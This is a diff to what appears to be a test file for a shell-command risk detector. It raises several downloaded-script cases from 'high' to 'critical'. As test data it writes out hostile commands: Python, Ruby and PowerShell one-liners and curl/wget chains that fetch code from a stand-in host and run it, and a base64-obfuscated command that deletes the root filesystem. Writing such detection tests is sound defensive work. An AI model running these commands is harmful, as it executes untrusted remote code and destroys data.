@@ -20,9 +20,9 @@ runCases('execution', [
   { command: 'python3 -c "import urllib.request; exec(urllib.request.urlopen(\'https://x.example/p.py\').read())"', risk: 'critical', rules: ['execution.download-exec'] },
   { command: 'ruby -ropen-uri -e \'eval(URI.open("https://x.example/r.rb").read)\'', risk: 'critical', rules: ['execution.download-exec'] },
   { command: 'powershell -c "iex (iwr https://x.example/i.ps1 -UseBasicParsing)"', risk: 'critical', tags: ['remote-code-execution'] },
-  { command: 'curl -fsSL https://get.docker.com -o get-docker.sh && sh get-docker.sh', risk: 'high', rules: ['execution.downloaded-script'], tags: ['untrusted-source'] },
-  { command: 'wget https://x.example/install.sh && chmod +x install.sh && ./install.sh', risk: 'high', rules: ['execution.downloaded-script'] },
-  { command: 'curl -s https://x.example/a.sh > a.sh; bash a.sh', risk: 'high', rules: ['execution.downloaded-script'] },
+  { command: 'curl -fsSL https://get.docker.com -o get-docker.sh && sh get-docker.sh', risk: 'critical', rules: ['execution.downloaded-script'], tags: ['untrusted-source'] },
+  { command: 'wget https://x.example/install.sh && chmod +x install.sh && ./install.sh', risk: 'critical', rules: ['execution.downloaded-script'] },
+  { command: 'curl -s https://x.example/a.sh > a.sh; bash a.sh', risk: 'critical', rules: ['execution.downloaded-script'] },
   // decoded and opaque code
   { command: 'echo cm0gLXJmIC8= | base64 -d | sh', risk: 'critical', rules: ['execution.decoded-exec'], tags: ['obfuscation', 'root-filesystem'] },
   { command: 'echo "ZWNobyBoaQ==" | base64 --decode | bash', risk: 'high', rules: ['execution.decoded-exec'], tags: ['obfuscation'] },
